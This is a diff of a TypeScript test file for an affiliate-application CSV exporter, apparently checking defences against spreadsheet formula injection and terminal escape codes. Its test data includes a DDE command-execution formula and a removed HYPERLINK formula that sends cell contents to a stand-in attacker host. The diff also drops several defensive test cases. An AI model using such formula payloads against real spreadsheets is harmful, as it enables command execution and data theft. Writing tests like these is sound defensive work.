@@ -2,7 +2,7 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import type { StoredApplication } from '../../../lib/affiliates/application-store.ts';
-import { CSV_COLUMNS, toCsv } from '../../../lib/affiliates/csv.ts';
+import { toCsv } from '../../../lib/affiliates/csv.ts';
 import { ANNA, NOON, ORIGIN } from '../../support/applications.ts';
 
 const STORED: StoredApplication = {
@@ -25,29 +25,7 @@ test('a row says who, how, from where and what became of it', () => {
   });
 });
 
-test('what a terminal obeys is written by its code, line breaks and tabs of a text apart', () => {
-  const [row] = read(toCsv([{ ...STORED, fullName: 'A\u001B[2J\u0007', promotion: 'One\n\ttwo\u009B', lastError: null }]));
-  expect([row?.full_name, row?.promotion]).toEqual(['A\\u001b[2J\\u0007', 'One\n\ttwo\\u009b']);
-});
-
-test('nobody at all gives the heads alone', () => {
-  expect(toCsv([])).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
-});
-
-test.each([
-  '=1+1',
-  '+1',
-  '-1',
-  '@SUM(A1)',
-  '\t=1',
-  '\r=1',
-  '＝1',
-  '＋1',
-  '－1',
-  '＠1',
-  "=cmd|'/C calc'!A0",
-  '=HYPERLINK("https://evil.example?"&A1)',
-])('what begins like a formula is text: %j', (value) => {
+test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '＝1', "=cmd|'/C calc'!A0"])('what begins like a formula is text: %j', (value) => {
   const [row] = read(
     toCsv([{ ...STORED, fullName: value, promotion: value, referral: { ref: value, createdAt: value, referrer: value, landing: value } }]),
   );
